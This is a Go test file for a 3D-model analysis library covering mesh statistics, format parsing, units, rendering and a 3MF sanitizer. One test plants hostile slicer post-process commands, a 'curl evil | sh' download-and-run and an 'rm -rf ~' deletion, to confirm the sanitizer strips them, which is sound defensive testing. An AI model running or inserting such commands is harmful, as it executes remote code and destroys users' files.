package model3d_test

import (
	"bytes"
	"fmt"
	"image/png"
	"math"
	"testing"

	"printlab/model3d"
	"printlab/model3d/testmesh"
)

func TestCubeStats(t *testing.T) {
	s := model3d.Analyze(testmesh.Cube(20))
	if s.Triangles != 12 || s.VolumeMM3 != 8000 || s.AreaMM2 != 2400 {
		t.Fatalf("cube: %+v", s)
	}
	if !s.Closed || s.OpenEdges != 0 || s.Inverted || s.Degenerate != 0 || s.UnitsWarning != "" {
		t.Fatalf("cube flags: %+v", s)
	}
	if s.SizeMM != [3]float64{20, 20, 20} || s.MinMM != [3]float64{} {
		t.Fatalf("cube bbox: %+v", s)
	}
}

func TestTorusStats(t *testing.T) {
	for _, c := range []struct{ nu, nv int }{{48, 24}, {400, 200}} {
		R, r := 40.0, 15.0
		s := model3d.Analyze(testmesh.Torus(R, r, c.nu, c.nv))
		wantV, wantA := testmesh.TorusVolume(R, r, c.nu, c.nv), testmesh.TorusArea(R, r, c.nu, c.nv)
		if !near(s.VolumeMM3, wantV, 1e-3) || !near(s.AreaMM2, wantA, 1e-3) {
			t.Errorf("torus %dx%d: volume %.3f want %.3f, area %.3f want %.3f", c.nu, c.nv, s.VolumeMM3, wantV, s.AreaMM2, wantA)
		}
		if !s.Closed || s.Inverted || s.Triangles != 2*c.nu*c.nv {
			t.Errorf("torus flags: %+v", s)
		}
		if !near(s.SizeMM[2], 2*r, 1e-6) {
			t.Errorf("torus height %v", s.SizeMM)
		}
	}
	// The fine mesh also matches the smooth torus's 2π²Rr² closely.
	s := model3d.Analyze(testmesh.Torus(40, 15, 400, 200))
	if !near(s.VolumeMM3, 2*math.Pi*math.Pi*40*15*15, 1e-3) || !near(s.AreaMM2, 4*math.Pi*math.Pi*40*15, 1e-3) {
		t.Errorf("fine torus vs analytic: %+v", s)
	}
}

func TestAllFormatsAgree(t *testing.T) {
	m := testmesh.Torus(30, 10, 40, 20)
	want := model3d.Analyze(m)
	files := map[string][]byte{
		"t.stl":   encode(t, func(b *bytes.Buffer) error { return model3d.WriteBinarySTL(b, m) }),
		"ta.STL":  encode(t, func(b *bytes.Buffer) error { return model3d.WriteASCIISTL(b, m, "torus") }),
		"t.obj":   encode(t, func(b *bytes.Buffer) error { return model3d.WriteOBJ(b, m) }),
		"t.3mf":   encode(t, func(b *bytes.Buffer) error { return model3d.Write3MF(b, m, "Torus") }),
		"san.3mf": encode(t, func(b *bytes.Buffer) error { return model3d.WriteSanitized3MF(b, m, "x") }),
	}
	for name, b := range files {
		got := model3d.Analyze(mustParse(t, b, name))
		if got != want {
			t.Errorf("%s: %+v\nwant %+v", name, got, want)
		}
	}
}

// TestLarge3MF goes through the prefetching reader used for model parts
// over 4 MB.
func TestLarge3MF(t *testing.T) {
	m := testmesh.Torus(40, 15, 300, 150)
	b := encode(t, func(w *bytes.Buffer) error { return model3d.Write3MF(w, m, "big") })
	if got, want := model3d.Analyze(mustParse(t, b, "big.3mf")), model3d.Analyze(m); got != want {
		t.Errorf("got %+v\nwant %+v", got, want)
	}
}

func TestInvertedAndOpen(t *testing.T) {
	m := testmesh.Cube(10)
	inv := &model3d.Mesh{Tris: append([]float32(nil), m.Tris...)}
	for i := 0; i < len(inv.Tris); i += 9 {
		for j := range 3 {
			inv.Tris[i+3+j], inv.Tris[i+6+j] = inv.Tris[i+6+j], inv.Tris[i+3+j]
		}
	}
	s := model3d.Analyze(inv)
	if !s.Inverted || s.VolumeMM3 != 1000 || !s.Closed {
		t.Errorf("inverted: %+v", s)
	}
	open := &model3d.Mesh{Tris: m.Tris[9:]}
	s = model3d.Analyze(open)
	if s.Closed || s.OpenEdges != 3 {
		t.Errorf("open: %+v", s)
	}
	deg := &model3d.Mesh{Tris: append(append([]float32(nil), m.Tris...), 0, 0, 0, 1, 1, 1, 2, 2, 2)}
	if s := model3d.Analyze(deg); s.Degenerate != 1 || s.Closed {
		t.Errorf("degenerate: %+v", s)
	}
}

// TestRepeatedTriangles feeds the same triangle 50,000 times: all edge
// keys land in the same buckets, which overflows the fast path's slots
// and must give the same answer through the slow path.
func TestRepeatedTriangles(t *testing.T) {
	m := testmesh.Torus(40, 15, 40, 20)
	tri := []float32{0, 0, 0, 1, 0, 0, 0, 1, 0}
	for range 50000 {
		m.Tris = append(m.Tris, tri...)
	}
	s := model3d.Analyze(m)
	if s.OpenEdges != 3 || s.Closed || s.Triangles != 51600 {
		t.Errorf("%+v", s)
	}
}

func TestUnits3MF(t *testing.T) {
	for unit, scale := range map[string]float64{"micron": 0.001, "millimeter": 1, "centimeter": 10, "inch": 25.4, "foot": 304.8, "meter": 1000} {
		b := threeMF(t, modelXML(unit, cubeObject("1"), `<item objectid="1"/>`))
		s := model3d.Analyze(mustParse(t, b, "u.3mf"))
		if !near(s.SizeMM[0], 10*scale, 1e-6) || !near(s.VolumeMM3, 1000*scale*scale*scale, 1e-5) {
			t.Errorf("%s: %+v", unit, s)
		}
	}
}

func TestUnitsGuess(t *testing.T) {
	for _, c := range []struct {
		size float64
		want string
	}{{20, ""}, {2, model3d.UnitsInches}, {1.5, model3d.UnitsInches}, {0.75, model3d.UnitsInches}, {1.27, model3d.UnitsTooSmall}, {2.3, model3d.UnitsTooSmall}, {0.05, model3d.UnitsTooSmall}, {1500, model3d.UnitsTooLarge}, {999, ""}} {
		s := model3d.Analyze(testmesh.Cube(c.size))
		if s.UnitsWarning != c.want {
			t.Errorf("cube %v: got %q want %q", c.size, s.UnitsWarning, c.want)
		}
		if (model3d.UnitsAdvice(s) == "") != (c.want == "") {
			t.Errorf("advice for %q", c.want)
		}
	}
}

func TestTransformsAndComponents(t *testing.T) {
	// Item: rotate 90° about Z then move +100 x. Component in another part
	// (as Bambu Studio writes them), itself moved +5 z.
	rot := `0 1 0 -1 0 0 0 0 1 100 0 0`
	root := modelXML("millimeter",
		`<object id="5" type="model"><components><component p:path="/3D/Objects/object_1.model" objectid="1" transform="1 0 0 0 1 0 0 0 1 0 0 5"/><component objectid="6"/></components></object>`+cubeObject("6"),
		`<item objectid="5" transform="`+rot+`" printable="1"/>`)
	part := modelXML("millimeter", cubeObject("1"), "")
	b := threeMF(t, root, entry{name: "3D/Objects/object_1.model", body: part})
	s := model3d.Analyze(mustParse(t, b, "asm.3mf"))
	// Two cubes: one at z 0..10, one at z 5..15, both at x 90..100, y 0..10.
	if s.Triangles != 24 || s.MinMM != [3]float64{90, 0, 0} || s.MaxMM != [3]float64{100, 10, 15} {
		t.Errorf("assembly: %+v", s)
	}
	if !near(s.VolumeMM3, 2000, 1e-9) {
		t.Errorf("volume %v", s.VolumeMM3)
	}
	// A sub-assembly used twice is expanded twice.
	root2 := modelXML("centimeter", cubeObject("1")+`<object id="2"><components><component objectid="1"/><component objectid="1" transform="1 0 0 0 1 0 0 0 1 20 0 0"/></components></object>`,
		`<item objectid="2"/><item objectid="1" printable="0"/>`)
	s = model3d.Analyze(mustParse(t, threeMF(t, root2), "x.3mf"))
	if s.Triangles != 24 || !near(s.SizeMM[0], 300, 1e-6) {
		t.Errorf("instances: %+v", s)
	}
}

func TestFitsIn(t *testing.T) {
	s := model3d.Stats{SizeMM: [3]float64{250, 100, 20}}
	for _, c := range []struct {
		v    model3d.Volume
		want bool
	}{{model3d.Volume{X: 256, Y: 256, Z: 256}, true}, {model3d.Volume{X: 180, Y: 180, Z: 180}, false}, {model3d.Volume{X: 20, Y: 100, Z: 250}, true}, {model3d.Volume{X: 100, Y: 250, Z: 19}, false}} {
		if model3d.FitsIn(s, c.v) != c.want {
			t.Errorf("%+v: want %v", c.v, c.want)
		}
	}
	if g := model3d.EstimateGrams(10000, 1.24, 0.5); !near(g, 6.2, 1e-12) {
		t.Errorf("grams %v", g)
	}
	if model3d.EstimateGrams(-1, 1, 1) != 0 {
		t.Error("negative volume")
	}
}

func TestRender(t *testing.T) {
	for _, m := range []*model3d.Mesh{testmesh.Cube(10), testmesh.Torus(40, 15, 60, 30)} {
		var buf bytes.Buffer
		if err := model3d.RenderPNG(&buf, m, 64); err != nil {
			t.Fatal(err)
		}
		img, err := png.Decode(&buf)
		if err != nil {
			t.Fatal(err)
		}
		if img.Bounds().Dx() != 64 || img.Bounds().Dy() != 64 {
			t.Fatalf("size %v", img.Bounds())
		}
		if _, _, _, a := img.At(0, 0).RGBA(); a != 0 {
			t.Error("corner not transparent")
		}
		opaque, partial := 0, 0
		tones := map[uint32]bool{}
		for y := range 64 {
			for x := range 64 {
				r, _, _, a := img.At(x, y).RGBA()
				switch {
				case a == 0xffff:
					opaque++
					tones[r>>10] = true
				case a > 0:
					partial++
				}
			}
		}
		if opaque < 64*64/5 || partial == 0 || len(tones) < 3 {
			t.Errorf("render: %d opaque, %d anti-aliased, %d tones", opaque, partial, len(tones))
		}
	}
	// The cube's three visible faces get three distinct tones.
	img, _ := model3d.Render(testmesh.Cube(10), 64)
	top, left, right := img.NRGBAAt(32, 12), img.NRGBAAt(20, 40), img.NRGBAAt(44, 40)
	if top == left || left == right || top == right || top.A != 255 || left.A != 255 || right.A != 255 {
		t.Errorf("faces: top %v left %v right %v", top, left, right)
	}
	if err := model3d.RenderPNG(&bytes.Buffer{}, testmesh.Cube(1), 5); codeOf(err) == "" {
		t.Error("tiny size accepted")
	}
}

func TestCullingIsExactForClosedMeshes(t *testing.T) {
	for _, m := range []*model3d.Mesh{testmesh.Cube(10), testmesh.Torus(40, 15, 90, 45)} {
		s := model3d.Analyze(m)
		if !model3d.CanCull(s) {
			t.Fatalf("closed outward mesh not cullable: %+v", s)
		}
		a, _ := model3d.Render(m, 96)
		b, _ := model3d.RenderWith(m, 96, model3d.RenderOptions{CullBackFaces: true})
		if !bytes.Equal(a.Pix, b.Pix) {
			diff := 0
			for i := range a.Pix {
				if a.Pix[i] != b.Pix[i] {
					diff++
				}
			}
			// Only depth ties along silhouettes may differ.
			if diff > len(a.Pix)/500 {
				t.Errorf("culled render differs in %d of %d bytes", diff, len(a.Pix))
			}
		}
	}
	// Flipping one triangle breaks consistent winding; an open mesh and an
	// inverted one are not cullable either.
	m := testmesh.Cube(10)
	for j := range 3 {
		m.Tris[3+j], m.Tris[6+j] = m.Tris[6+j], m.Tris[3+j]
	}
	if s := model3d.Analyze(m); !s.Closed || s.Oriented || model3d.CanCull(s) {
		t.Errorf("one flipped triangle: %+v", s)
	}
	if s := model3d.Analyze(&model3d.Mesh{Tris: testmesh.Cube(10).Tris[9:]}); s.Oriented || model3d.CanCull(s) {
		t.Errorf("open: %+v", s)
	}
}

func TestThumbnailEmbedded(t *testing.T) {
	var thumb bytes.Buffer
	src, _ := model3d.Render(testmesh.Cube(10), 100)
	png.Encode(&thumb, src)
	rels := `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Target="/3D/3dmodel.model" Id="r0" Type="http://schemas.microsoft.com/3dmanufacturing/2013/01/3dmodel"/><Relationship Target="/Metadata/thumbnail.png" Id="r1" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail"/></Relationships>`
	b := zipOf(t, entry{name: "_rels/.rels", body: rels}, entry{name: "3D/3dmodel.model", body: modelXML("millimeter", cubeObject("1"), `<item objectid="1"/>`)}, entry{name: "Metadata/thumbnail.png", body: thumb.String()})
	m := mustParse(t, b, "t.3mf")
	if !bytes.Equal(m.Thumbnail, thumb.Bytes()) {
		t.Fatal("thumbnail not read")
	}
	var out bytes.Buffer
	if err := model3d.Thumbnail(&out, m, 48); err != nil {
		t.Fatal(err)
	}
	img, err := png.Decode(&out)
	if err != nil || img.Bounds().Dx() != 48 {
		t.Fatalf("thumb: %v %v", err, img)
	}
	if bytes.Equal(out.Bytes(), thumb.Bytes()) {
		t.Error("raw bytes passed through")
	}
	// A broken embedded thumbnail falls back to rendering.
	m.Thumbnail = []byte("\x89PNG\r\n\x1a\nbroken")
	out.Reset()
	if err := model3d.Thumbnail(&out, m, 32); err != nil {
		t.Fatal(err)
	}
	if _, err := png.Decode(&out); err != nil {
		t.Fatal(err)
	}
}

func TestSanitizedDropsEverythingElse(t *testing.T) {
	evil := entry{name: "Metadata/Slic3r_PE.config", body: "; post_process = /bin/sh -c 'curl evil | sh'\n"}
	b := threeMF(t, modelXML("inch", cubeObject("1"), `<item objectid="1"/>`), evil,
		entry{name: "Metadata/project_settings.config", body: `{"post_process":["rm -rf ~"]}`},
		entry{name: "Metadata/script.ini", body: "x"})
	m := mustParse(t, b, "evil.3mf")
	var out bytes.Buffer
	if err := model3d.WriteSanitized3MF(&out, m, "Bracket <v2> & \x07 more"); err != nil {
		t.Fatal(err)
	}
	zr, err := zipReader(out.Bytes())
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
	}
	if fmt.Sprint(names) != "[[Content_Types].xml _rels/.rels 3D/3dmodel.model]" {
		t.Errorf("entries: %v", names)
	}
	model := readEntry(t, zr, "3D/3dmodel.model")
	for _, want := range []string{`unit="millimeter"`, `<metadata name="Title">Bracket &lt;v2&gt; &amp;  more</metadata>`, `<metadata name="Application">PrintLab</metadata>`} {
		if !bytes.Contains(model, []byte(want)) {
			t.Errorf("model lacks %s", want)
		}
	}
	if bytes.Contains(out.Bytes(), []byte("post_process")) {
		t.Error("config leaked")
	}
	back := model3d.Analyze(mustParse(t, out.Bytes(), "s.3mf"))
	if back != model3d.Analyze(m) || !near(back.SizeMM[0], 254, 1e-6) {
		t.Errorf("round trip: %+v", back)
	}
}

// The low-memory analysis gives exactly the same answers, open edges included.
func TestAnalyzeLowMemoryMatches(t *testing.T) {
	closed := testmesh.Torus(40, 15, 1000, 260) // 520,000 triangles: two passes
	open := &model3d.Mesh{Tris: closed.Tris[:len(closed.Tris)-9*1000]}
	for _, m := range []*model3d.Mesh{closed, open} {
		a, b := model3d.Analyze(m), model3d.AnalyzeLowMemory(m)
		if a != b {
			t.Errorf("low-memory analysis differs:\n%+v\n%+v", a, b)
		}
	}
	if s := model3d.AnalyzeLowMemory(open); s.Closed || s.OpenEdges == 0 {
		t.Errorf("an opened torus reads as closed: %+v", s)
	}
}
